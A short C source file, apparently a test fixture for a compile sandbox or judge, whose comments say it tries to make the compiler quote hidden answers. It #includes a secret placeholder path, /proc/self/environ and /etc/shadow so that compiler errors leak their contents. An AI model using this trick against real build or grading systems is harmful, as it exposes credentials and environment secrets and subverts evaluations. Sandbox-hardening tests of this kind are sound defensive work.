// tries: to let the compiler quote the answers
// reasons: its own words
#include "@SECRET@"
#include "/proc/self/root@SECRET@"
#include "/proc/self/environ"
#include "/etc/shadow"
int main() {}
